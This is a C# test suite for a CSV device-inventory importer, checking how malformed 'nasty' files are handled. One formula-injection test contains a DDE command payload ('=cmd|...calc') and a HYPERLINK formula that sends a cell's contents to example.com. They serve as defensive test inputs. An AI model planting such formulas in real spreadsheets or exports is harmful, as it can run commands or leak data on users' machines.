using System.Text.Json;
using Backline.Domain.Common;
using Backline.Server.Features.Imports.Reading;

namespace Backline.Server.Tests.Imports;

/// <summary>What Inventories/nasty/expected.csv asks, file by file.</summary>
public class NastyFileTests
{
    [Theory]
    [InlineData("01-utf8-bom.csv", "utf-8", ',')]
    [InlineData("03-utf16le-no-bom.csv", "utf-16", ',')]
    [InlineData("05-semicolon-german-windows1252.csv", "windows-1252", ';')]
    [InlineData("13-thousand-column-header.csv", "utf-8", ',')]
    [InlineData("19-headers-de.csv", "utf-8", ',')]
    [InlineData("21-headers-ko-cp949.csv", "euc-kr", ',')]
    [InlineData("25-mixed-line-ends.csv", "utf-8", ',')]
    [InlineData("35-zipped.csv.zip", "utf-8", ',')]
    public void Forty_devices_come_out_whole(string name, string encoding, char separator)
    {
        using var file = Inventories.Open("nasty/" + name);
        Assert.Equal(("lens-inventory", encoding, separator), (file.Format, file.Encoding, file.Separator));
        var devices = file.Devices();
        Assert.Equal(40, devices.Count);
        Assert.Equal(40, file.Survey(TestContext.Current.CancellationToken).Rows);
        Assert.Equal(("4825679BD6B1", "4825679bd6b1", "VVX 350", "Seoul Gangnam"), (devices[0].SerialKey, devices[0].MacKey, devices[0].Model, devices[0].Site));
        Assert.Equal(new DateTimeOffset(2026, 9, 24, 9, 0, 0, TimeSpan.Zero), devices[0].LastSeen);
        Assert.All(devices, device => Assert.DoesNotContain('\0', device.Name!));
        Assert.Equal(40, devices.Select(device => device.Number).Distinct().Count());
    }

    [Theory]
    [InlineData("01-utf8-bom.csv", "Zürich Altstetten", "Fátima Park – VVX 350")]
    [InlineData("03-utf16le-no-bom.csv", "Zürich Altstetten", "Fátima Park – VVX 350")]
    [InlineData("05-semicolon-german-windows1252.csv", "Zürich Altstetten", "Fátima Park – VVX 350")]
    public void Umlauts_are_right(string name, string site, string device)
    {
        using var file = Inventories.Open("nasty/" + name);
        Assert.Contains(file.Devices(), row => row.Site == site);
        Assert.Equal(device, file.Devices()[0].Name);
    }

    [Fact]
    public void The_mark_is_no_part_of_the_first_header()
    {
        using var file = Inventories.Open("nasty/01-utf8-bom.csv");
        Assert.Equal("Device Name", file.Columns[0].Header);
    }

    [Fact]
    public void Characters_that_cannot_be_stored_become_spaces_and_are_reported()
    {
        using var file = Inventories.Open("nasty/25-mixed-line-ends.csv");
        var mended = file.Devices().Where(row => row.Problems.Count > 0).ToArray();
        Assert.All(mended, row => Assert.Equal("import.control-character", row.Problems[0].Reason.Code));
        Assert.Equal(["Hye-jin Kim – Rove B2", "Hazel 3.34 – TC10"], mended.Select(row => row.Name));
    }

    [Fact]
    public void Repeated_and_missing_serials_are_reported_row_by_row()
    {
        using var file = Inventories.Open("nasty/07-duplicate-serials.csv");
        var rows = file.Rows();
        Assert.Equal(23, rows.Count);
        var conflicts = rows.OfType<ConflictRow>().ToDictionary(row => row.Number, row => (row.Problem.Reason.Code, Others: string.Join(',', row.Others)));
        Assert.Equal(("import.repeated-serial", "21"), conflicts[4]);
        Assert.Equal(("import.repeated-serial", "22"), conflicts[8]);
        Assert.Equal(("import.repeated-serial", "23"), conflicts[12]);
        Assert.Equal(("import.shared-serial", "17"), conflicts[16]);
        Assert.Equal(("import.shared-serial", "16"), conflicts[17]);
        Assert.Equal(8, conflicts.Count);
        Assert.Equal([18, 19], rows.OfType<RejectedRow>().Select(row => row.Number));
        Assert.All(rows.OfType<RejectedRow>(), row => Assert.Equal("import.no-identity", row.Problem.Reason.Code));
        var byMac = Assert.IsType<InventoryRow>(rows[19]);
        Assert.Equal((null, "64167f0b0f5e"), (byMac.SerialKey, byMac.MacKey));
    }

    [Fact]
    public void No_device_of_an_unknown_model_is_dropped()
    {
        using var file = Inventories.Open("nasty/09-unknown-models.csv");
        Assert.Equal(
            ["Studio X9000", "VVX", "CCX-500", "ccx500", "Poly Trio C 60", "Polycom RealPresence Trio 8800", "Teams Phone", "???", "Voyager Fokus 2", "스튜디오 X50", "X50", null],
            file.Devices().Select(row => row.Model));
    }

    [Fact]
    public void Formulas_are_kept_as_typed()
    {
        using var file = Inventories.Open("nasty/11-formula-injection.csv");
        var names = file.Devices().Select(row => row.Name!).ToArray();
        Assert.Equal(14, names.Length);
        Assert.Equal("=cmd|' /C calc'!A0", names[0]);
        Assert.Equal("\t=1+1", names[4]);
        Assert.Equal("\r=1+1", names[5]);
        Assert.Equal("=HYPERLINK(\"http://example.com/?x=\"&A2,\"Click\")", names[6]);
        Assert.Equal("+82 2 1234 5678", names[13]);
    }

    [Fact]
    public void A_row_cut_by_the_download_is_reported_and_the_others_are_certain()
    {
        using var file = Inventories.Open("nasty/15-truncated-last-line.csv");
        Assert.Equal(39, file.Devices().Count);
        var cut = Assert.IsType<RejectedRow>(file.Rows()[39]);
        Assert.Equal((40, 41, "import.incomplete-row"), (cut.Number, cut.Line, cut.Problem.Reason.Code));
    }

    [Fact]
    public void A_header_alone_is_refused() =>
        Assert.Equal("import.no-rows", Inventories.Code(() => Inventories.Open("nasty/17-header-only.csv")));

    [Fact]
    public void Dates_that_can_be_two_days_are_asked_for()
    {
        using var file = Inventories.Open("nasty/23-mixed-dates.csv");
        var question = Assert.Single(file.Survey(TestContext.Current.CancellationToken).Questions);
        Assert.Equal(("import.ambiguous-date", "05/11/2026", "Last Detected"), (question.Code, question.Args[0], question.Args[1]));
        var rows = file.Devices();
        Assert.Equal(14, rows.Count);
        Assert.Equal(["import.ambiguous-date", "import.ambiguous-date", "import.impossible-date", "import.impossible-date"],
            rows.SelectMany(row => row.Problems).Select(problem => problem.Reason.Code));
        Assert.Equal([1, 4, 5, 6, 7, 8, 9, 10, 11, 12], rows.Where(row => row.LastSeen is not null).Select(row => row.Number));
        foreach (var number in new[] { 1, 4, 6, 7, 8 }) Assert.Equal(new DateTimeOffset(2026, 11, 5, 0, 0, 0, TimeSpan.Zero), rows[number - 1].LastSeen);
        Assert.Equal(new DateTimeOffset(2026, 11, 5, 5, 30, 0, TimeSpan.Zero), rows[11].LastSeen);
    }

    [Theory]
    [InlineData(DateOrder.DayFirst, 5)]
    [InlineData(DateOrder.MonthFirst, 11)]
    public void The_answer_holds_for_the_whole_column(DateOrder order, int dayOfSecondRow)
    {
        using var file = Inventories.Open("nasty/23-mixed-dates.csv", new() { DateOrder = order });
        Assert.Empty(file.Survey(TestContext.Current.CancellationToken).Questions);
        var rows = file.Devices();
        Assert.Equal((dayOfSecondRow, 16 - dayOfSecondRow), (rows[1].LastSeen!.Value.Day, rows[2].LastSeen!.Value.Day));
    }

    [Fact]
    public void Two_columns_of_serials_are_asked_for_and_a_mapping_chooses()
    {
        using var file = Inventories.Open("nasty/27-duplicate-header-names.csv");
        var question = file.WhyNotRead()!;
        Assert.Equal(("import.duplicate-column", "Serial Number", "3, 9"), (question.Code, question.Args[0], question.Args[1]));
        Assert.Equal("import.duplicate-column", Inventories.Code(() => file.Rows()));
        using var mapped = Inventories.Open("nasty/27-duplicate-header-names.csv", new() { Mapping = [new(8, DeviceField.Serial), new(1, DeviceField.Model)] });
        Assert.Equal((40, "1B6DB9765284", "VVX 350", "mapped"), (mapped.Devices().Count, mapped.Devices()[0].Serial, mapped.Devices()[0].Model, mapped.Format));
    }

    [Fact]
    public void Serials_a_spreadsheet_destroyed_are_no_identities()
    {
        using var file = Inventories.Open("nasty/29-excel-mangled.csv");
        var rows = file.Rows();
        Assert.Equal(20, rows.Count);
        var codes = rows.Cast<RejectedRow>().Select(row => row.Problem.Reason.Code).ToArray();
        Assert.Equal("import.damaged-mac", codes[0]);
        Assert.Equal(10, codes.Count(code => code == "import.damaged-serial"));
        Assert.Equal(9, codes.Count(code => code == "import.lost-zeros"));
    }

    [Fact]
    public void Bytes_that_are_no_text_are_reported_and_not_stored()
    {
        using var file = Inventories.Open("nasty/31-invalid-utf8.csv");
        var rows = file.Rows();
        Assert.Equal("utf-8", file.Encoding);
        var bad = rows.OfType<RejectedRow>().ToArray();
        Assert.Equal(5, bad.Length);
        Assert.All(bad, row => Assert.Equal(("import.unreadable-text", "Site"), (row.Problem.Reason.Code, row.Problem.Column)));
        Assert.Equal("4825679BD6B1", bad[0].SerialKey);
        Assert.All(rows.OfType<InventoryRow>(), row => Assert.DoesNotContain(row.Site + row.Name, c => c is '\uFFFD' or '\uFFFF'));
        Assert.Equal(35, rows.OfType<InventoryRow>().Count());
    }

    [Fact]
    public void A_quote_that_never_closes_stops_with_its_row()
    {
        var refusal = Assert.Throws<RefusedException>(() => Inventories.Open("nasty/33-unclosed-quote.csv")).Refusal;
        Assert.Equal(("import.unclosed-quote", 1, 2), (refusal.Code, refusal.Args[0], refusal.Args[1]));
    }

    [Fact]
    public void Every_file_of_the_contract_is_there() =>
        Assert.Equal(18, File.ReadAllLines(Path.Combine(Inventories.Folder(), "nasty/expected.csv")).Skip(1)
            .Count(line => File.Exists(Path.Combine(Inventories.Folder(), "nasty", line.Split(',')[0]))));

    [Theory]
    [InlineData("lens-inventory")]
    [InlineData("lens-provisioning")]
    [InlineData("teams-devices")]
    [InlineData("zoom-devices")]
    [InlineData("yealink-devices")]
    [InlineData("logitech-devices")]
    public void Exports_are_recognised_and_every_row_is_a_device(string name)
    {
        using var expected = JsonDocument.Parse(File.ReadAllText(Path.Combine(Inventories.Folder(), "expected.json")));
        using var file = Inventories.Open($"small/{name}.csv");
        Assert.Equal(name.Replace("-devices", "", StringComparison.Ordinal), file.Format);
        var devices = file.Devices();
        Assert.Equal(expected.RootElement.GetProperty($"small/{name}.csv").GetProperty("rows").GetInt32(), devices.Count);
        Assert.All(devices, device => Assert.Empty(device.Problems));
        Assert.All(devices, device => Assert.False(string.IsNullOrEmpty(device.Model)));
    }

    [Fact]
    public void Every_count_of_the_lens_inventory_is_found()
    {
        using var file = Inventories.Open("small/lens-inventory.csv");
        var devices = file.Devices();
        Assert.Equal((250, 39, 38, 3, 87), (
            devices.Select(d => d.SerialKey).Distinct().Count(), devices.Select(d => d.Model).Distinct().Count(),
            devices.Count(d => d.Online == false), devices.Select(d => d.Site).Distinct().Count(), devices.Count(d => d.MacKey is null)));
        Assert.Equal(("Poly", "2fc9630d", "208144", "10.11.223.31", "lab", "priya.muller87@example.com"),
            (devices[0].Manufacturer, devices[0].ProductId, devices[0].SoftwareBuild, devices[0].Ip, devices[0].Tags, devices[0].User));
        Assert.Equal((new DateOnly(2024, 9, 22), new DateOnly(2024, 3, 26)), (devices[0].Registered, devices[0].Shipped));
    }

    [Fact]
    public void A_list_of_sites_is_no_inventory()
    {
        using var file = Inventories.Open("small/sites.csv");
        Assert.Equal("import.unknown-columns", file.WhyNotRead()!.Code);
    }
}
